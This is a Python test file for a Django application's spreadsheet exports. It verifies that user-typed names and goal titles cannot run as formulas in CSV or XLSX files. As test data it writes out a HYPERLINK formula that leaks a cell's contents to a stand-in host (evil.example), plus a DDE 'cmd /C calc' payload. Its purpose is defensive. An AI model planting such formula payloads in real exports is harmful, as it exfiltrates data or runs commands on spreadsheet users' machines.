"""Issue 10 finding 7: text typed into Tafel never runs as a formula in an export, and every CSV is the same
(`;` with a byte-order mark, for Dutch Excel).

Before the change a name starting with `=` went unescaped into the FG's audit CSV and the monitor CSV, and
as a live formula into the monitor XLSX; the audit and retention CSVs were `,`-separated, the others `;`.
"""

from __future__ import annotations

import csv
import io
import zipfile

import openpyxl
import pytest
from django.urls import reverse

from tafel.core.audit import audit
from tafel.core.audit_events import CoreEvent
from tafel.core.spreadsheet import csv_text, neutralise
from tafel.organisations.models import Role
from tafel.testing import make_user

pytestmark = pytest.mark.django_db

HOSTILE = '=HYPERLINK("https://evil.example/?"&A1;"klik")'


def _rows(content: bytes) -> list[list[str]]:
    assert content.startswith("\ufeff".encode()), "a byte-order mark first, for Dutch Excel"
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig")), delimiter=";"))


@pytest.mark.parametrize("prefix", ["=", "+", "-", "@", "\t", "\r", "＝"])
def test_every_formula_prefix_is_neutralised(prefix):
    assert neutralise(f"{prefix}1+cmd|' /C calc'!A0").startswith("'")


@pytest.mark.parametrize("plain", ["Jansen", "-3", "+12,5", "-0.5%", "2026-01-05", "a=b"])
def test_plain_text_and_numbers_stay_as_they_are(plain):
    assert neutralise(plain) == plain


def test_csv_is_semicolon_separated_with_a_bom_and_quotes_what_needs_it():
    assert csv_text(["a", "b"], [["x;y", 1.5]]) == '\ufeffa;b\r\n"x;y";1,5\r\n'


def test_the_fg_audit_csv_does_not_run_a_name_as_a_formula(client, house):
    fg = make_user(house, Role.FG, username="fg")
    hostile = make_user(house, Role.PROCESREGISSEUR, username="kwaad", first_name=HOSTILE, last_name="")
    audit(actor=hostile, event=CoreEvent.LOGIN)
    client.force_login(fg)
    response = client.get(reverse("privacy:audit_export"))
    rows = _rows(b"".join(response.streaming_content))
    header, body = rows[0], rows[1:]
    labels = [dict(zip(header, row, strict=False))["UserName"] for row in body]
    assert f"'{HOSTILE} (kwaad)" in labels
    assert not any(
        cell.startswith(("=", "+", "-", "@")) for row in body for cell in row if cell[:1] not in "0123456789"
    )


def test_the_retention_csv_is_semicolon_separated_with_a_bom(client, house):
    fg = make_user(house, Role.FG, username="fg")
    client.force_login(fg)
    response = client.get(reverse("privacy:retention"), {"format": "csv"})
    assert _rows(response.content)[0][:2] == ["kenmerk", "afgesloten"]


@pytest.fixture
def hostile_goal(house):
    from tafel.reports.models import Direction
    from tafel.reports.services import GoalInput, goal_create

    ketenmanager = make_user(house, Role.KETENMANAGER, username="ketenmanager")
    return goal_create(
        actor=ketenmanager,
        data=GoalInput(
            title=HOSTILE,
            selection_criteria="Alle nieuwe aanmeldingen.",
            input_criteria="Aanmeldformulier volledig.",
            follow_up_criteria="Aanmelder binnen een week geïnformeerd.",
            indicator_code="doorlooptijd_triage",
            target_value="7",
            direction=Direction.AT_MOST,
        ),
    )


def test_the_monitor_csv_and_xlsx_hold_typed_text_as_text(hostile_goal):
    from tafel.reports.exports import build_reports
    from tafel.reports.params import parse_params

    files = build_reports(parse_params({"period": "2025Q2"}), ["csv", "xlsx"])

    csv_cells = [cell for row in _rows(files["csv"][0]) for cell in row]
    assert f"'{HOSTILE}" in csv_cells and HOSTILE not in csv_cells

    content = files["xlsx"][0]
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        sheets = [archive.read(n).decode() for n in archive.namelist() if n.startswith("xl/worksheets/")]
    assert not any("<f>" in sheet or "<f " in sheet for sheet in sheets), "no formula anywhere in the workbook"
    book = openpyxl.load_workbook(io.BytesIO(content))
    cell = next(c for c in book["Doelen"]["A"] if c.value == HOSTILE)
    assert cell.data_type == "s" and cell.quotePrefix
